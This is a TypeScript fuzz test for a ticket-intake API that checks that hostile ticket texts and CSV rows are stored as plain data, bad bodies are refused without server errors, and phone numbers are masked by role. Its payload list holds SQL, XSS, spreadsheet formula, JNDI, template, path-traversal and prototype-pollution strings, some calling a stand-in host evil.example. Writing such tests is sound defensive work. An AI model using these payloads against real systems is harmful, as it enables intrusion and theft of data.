// Issue 9, item 4 (tickets): ticket texts, addresses, phone numbers and CSV rows carrying
// injection attempts (SQL, HTML/script, spreadsheet formulas, template and JNDI strings, control
// and bidi characters, NUL, huge values) and malformed bodies, through POST /api/tickets and
// POST /api/tickets/import of the real API (DuckDB ticket store, access control on). The server
// never answers 5xx; a bad input is refused with a code and a reason that never echoes the phone
// number; a good ticket is stored with its text exactly as sent (data, not code); callers' phone
// numbers are masked for roles that may not see them.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { T0 } from '../../api/testing/api-harness';
import { createRng } from '../../fixtures/sim/rng';
import { startSecureApi, type SecureApi } from '../security/support/secure-api';

const INJECTIONS = [
  "暖气不热'); DROP TABLE tickets; --",
  "' OR '1'='1",
  '"; DELETE FROM tickets WHERE "1"="1',
  "<script>alert('xss')</script>暖气不热",
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(document.cookie)>',
  'javascript:alert(1)',
  '=HYPERLINK("http://evil.example","点我")',
  "=cmd|' /C calc'!A0",
  '+SUM(1,2)',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(A1:A9)',
  '\t=1+1',
  '${jndi:ldap://evil.example/x}',
  '{{7*7}} <%= 7*7 %> #{7*7}',
  '\u202E暖气不热 gnp.exe',
  '零\u200B宽\u200D字符\uFEFF',
  'nul \u0000 inside',
  'bell \u0007 and escape \u001b[31m red',
  '💩🔥'.repeat(50),
  '../../../../etc/passwd',
  'SELECT * FROM readings; --',
  'line1\nline2\r\nline3',
  '"quoted, with, commas"',
  '龙湖华庭3号楼2单元501 暖气不热，室温只有14度',
  '\\"; \\\\ backslashes \\',
  '%s%s%s%n %x',
  '𠮷'.repeat(300),
];

const BAD_BODIES: Array<[string, unknown]> = [
  ['missing text', { externalId: 'bad-1', receivedAt: T0, channel: 'phone' }],
  ['empty text', { externalId: 'bad-2', receivedAt: T0, text: '   ', address: '', channel: 'phone' }],
  ['text too long', { externalId: 'bad-3', receivedAt: T0, text: '热'.repeat(4001), address: '', channel: 'phone' }],
  ['control char in id', { externalId: 'bad\u00004', receivedAt: T0, text: 'x', address: '', channel: 'phone' }],
  ['id too long', { externalId: 'x'.repeat(65), receivedAt: T0, text: 'x', address: '', channel: 'phone' }],
  ['phone injection', { externalId: 'bad-6', receivedAt: T0, text: 'x', address: '', channel: 'phone', callerPhone: "13812345678' OR 1=1" }],
  ['phone too long', { externalId: 'bad-7', receivedAt: T0, text: 'x', address: '', channel: 'phone', callerPhone: '1'.repeat(40) }],
  ['absurd time', { externalId: 'bad-8', receivedAt: 8.64e15, text: 'x', address: '', channel: 'phone' }],
  ['future time', { externalId: 'bad-9', receivedAt: T0 + 10 * 86_400_000, text: 'x', address: '', channel: 'phone' }],
  ['time garbage', { externalId: 'bad-10', receivedAt: "'; DROP TABLE tickets; --", text: 'x', address: '', channel: 'phone' }],
  ['unknown channel', { externalId: 'bad-11', receivedAt: T0, text: 'x', address: '', channel: 'carrier-pigeon' }],
  ['extra key', { externalId: 'bad-12', receivedAt: T0, text: 'x', address: '', channel: 'phone', admin: true }],
  ['prototype key', JSON.parse('{"externalId":"bad-13","receivedAt":1,"text":"x","address":"","channel":"phone","__proto__":{"admin":true}}')],
  ['wrong types', { externalId: 13, receivedAt: {}, text: ['x'], address: null, channel: 1 }],
  ['array body', [{ externalId: 'bad-15' }]],
  ['string body', 'ticket'],
  ['null body', null],
  ['nested', { externalId: 'bad-18', receivedAt: T0, text: { $gt: '' }, address: '', channel: 'phone' }],
];

const csvCell = (v: string): string => `"${v.replace(/"/g, '""')}"`;

describe('fuzz: ticket intake with injection attempts', () => {
  let s: SecureApi;
  let operator: string;
  let bureau: string;
  beforeAll(async () => {
    s = await startSecureApi({ tickets: true });
    operator = await s.bearer('op1');
    bureau = await s.bearer('bureau1');
  });
  afterAll(async () => {
    await s?.close();
  });

  const post = async (body: string, auth: string, type = 'application/json'): Promise<{ status: number; json: Record<string, unknown> }> => {
    const r = await fetch(`${s.base}/api/tickets`, { method: 'POST', headers: { authorization: auth, 'content-type': type }, body });
    const text = await r.text();
    return { status: r.status, json: JSON.parse(text) as Record<string, unknown> };
  };

  it('JSON tickets: hostile texts are kept verbatim as data, bad bodies refused with a reason, never a 5xx', async () => {
    const rng = createRng(9);
    const created: Array<{ id: string; text: string; address: string }> = [];
    let inputs = 0;
    let refused = 0;
    let serverErrors = 0;
    for (let i = 0; i < 300; i++) {
      const text = `${rng.pick(INJECTIONS)} ${rng.pick(INJECTIONS)}`.slice(0, 4000);
      const address = rng.chance(0.5) ? rng.pick(INJECTIONS).slice(0, 300) : '嘉峪关市雄关区龙湖华庭3号楼';
      const body = { externalId: `fz-${i}`, receivedAt: T0 - i * 60_000, text, address, channel: rng.pick(['phone', 'wechat', 'web']), callerPhone: '138 1234 5678' };
      const r = await post(JSON.stringify(body), operator);
      inputs++;
      if (r.status >= 500) serverErrors++;
      expect({ i, status: r.status, err: r.json.code }).toMatchObject({ status: 201 });
      const t = r.json.ticket as { id: string; text: string };
      created.push({ id: t.id, text: text.trim(), address: address.trim() });
    }
    for (const [name, body] of BAD_BODIES) {
      const r = await post(JSON.stringify(body), operator);
      inputs++;
      if (r.status >= 500) serverErrors++;
      expect({ name, status: r.status }).toMatchObject({ status: expect.toSatisfy((x: number) => x >= 400 && x < 500) });
      expect(typeof r.json.code).toBe('string');
      expect(String(r.json.detail).length).toBeGreaterThan(3);
      expect(JSON.stringify(r.json)).not.toMatch(/13812345678/);
      refused++;
    }
    for (const raw of ['{"externalId":', 'not json at all', '{"a":'.repeat(10_000) + '1' + '}'.repeat(10_000), JSON.stringify({ text: 'x'.repeat(70_000) })]) {
      const r = await post(raw, operator);
      inputs++;
      if (r.status >= 500) serverErrors++;
      expect(r.status).toBeGreaterThanOrEqual(400);
      expect(r.status).toBeLessThan(500);
      refused++;
    }
    // Stored exactly as sent; read back through the API; the phone masked for the bureau.
    for (const c of created) {
      const asOperator = (await (await fetch(`${s.base}/api/tickets/${c.id}`, { headers: { authorization: operator } })).json()) as { text: string; address: string; callerPhone?: string };
      expect(asOperator.text).toBe(c.text);
      expect(asOperator.address).toBe(c.address);
      expect(asOperator.callerPhone).toBe('13812345678');
    }
    const asBureau = (await (await fetch(`${s.base}/api/tickets/${created[0]?.id}`, { headers: { authorization: bureau } })).json()) as { callerPhone?: string };
    expect(asBureau.callerPhone).toBe('138****5678');
    expect((await fetch(`${s.base}/api/tickets/${created[0]?.id}`)).status).toBe(401);
    const list = await fetch(`${s.base}/api/tickets?limit=500`, { headers: { authorization: operator } });
    expect(list.status).toBe(200);
    expect(((await list.json()) as { total: number }).total).toBe(created.length);
    console.log(`[fuzz] tickets JSON: inputs=${inputs} created=${created.length} refused=${refused} serverErrors=${serverErrors}`);
    expect(serverErrors).toBe(0);
  }, 180_000);

  it('CSV import: rows with formula, script and SQL injections are imported as text; broken rows reported by number; never a 5xx', async () => {
    const rng = createRng(10);
    const header = ['工单编号', '来电时间', '诉求内容', '地址', '联系电话', '渠道'].join(',');
    const rows: string[] = [];
    const good: Array<{ ext: string; text: string }> = [];
    let bad = 0;
    for (let i = 0; i < 120; i++) {
      const ext = `csv-${i}`;
      const text = rng.pick(INJECTIONS).split('\u0000').join('');
      if (i % 10 === 9) {
        rows.push([csvCell(ext), csvCell('not a time'), csvCell(text), csvCell(''), csvCell(''), csvCell('电话')].join(','));
        bad++;
      } else if (i % 10 === 8) {
        rows.push([csvCell(ext), csvCell('2025-01-15 09:00:00'), csvCell(''), csvCell(''), csvCell(''), csvCell('电话')].join(','));
        bad++;
      } else {
        rows.push([csvCell(ext), csvCell(`2025-01-15 ${String(8 + (i % 4)).padStart(2, '0')}:${String(i % 60).padStart(2, '0')}:00`), csvCell(text), csvCell(rng.pick(INJECTIONS).slice(0, 100)), csvCell('13912345678'), csvCell('12345热线')].join(','));
        good.push({ ext, text: text.trim() });
      }
    }
    const csv = `${header}\r\n${rows.join('\r\n')}\r\n`;
    const r = await fetch(`${s.base}/api/tickets/import`, { method: 'POST', headers: { authorization: operator, 'content-type': 'text/csv' }, body: csv });
    expect(r.status).toBe(200);
    const report = (await r.json()) as { rows: number; created: number; failed: number; errors: Array<{ row: number; reason?: string; detail?: string }> };
    expect(report.rows).toBe(120);
    expect(report.created).toBe(good.length);
    expect(report.failed).toBe(bad);
    expect(JSON.stringify(report.errors)).not.toMatch(/13912345678/);
    // the texts came in as they were written, formulas and all
    const page = (await (await fetch(`${s.base}/api/tickets?limit=500`, { headers: { authorization: operator } })).json()) as { items: Array<{ externalId: string; text: string }> };
    const byExt = new Map(page.items.map((t) => [t.externalId, t.text]));
    for (const g of good) expect(byExt.get(g.ext)).toBe(g.text);
    // a hostile upload: wrong type, garbage bytes, a header-less file
    for (const [type, body] of [
      ['application/x-sh', 'echo pwned'],
      ['text/csv', Buffer.from([0xff, 0x00, 0xfe, 0x01, 0x00, 0x22, 0x0a]).toString('latin1')],
      ['text/csv', '=cmd|\' /C calc\'!A0,+1,-1\r\n@x,y,z\r\n'],
    ] as const) {
      const x = await fetch(`${s.base}/api/tickets/import`, { method: 'POST', headers: { authorization: operator, 'content-type': type }, body });
      expect(x.status).toBeGreaterThanOrEqual(400);
      expect(x.status).toBeLessThan(500);
    }
    console.log(`[fuzz] tickets CSV: rows=${report.rows} created=${report.created} failed=${report.failed} (expected ${bad})`);
  }, 120_000);
});
